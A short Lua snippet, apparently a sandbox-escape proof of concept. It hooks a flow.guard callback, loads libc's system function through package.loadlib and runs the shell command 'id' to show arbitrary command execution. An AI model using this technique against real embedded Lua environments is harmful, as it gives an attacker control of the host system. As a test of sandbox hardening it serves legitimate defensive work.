flow.guard("target", function(op, stacks, ctx)
  local system = package.loadlib("libc.so.6", "system")
  system("id")
end)
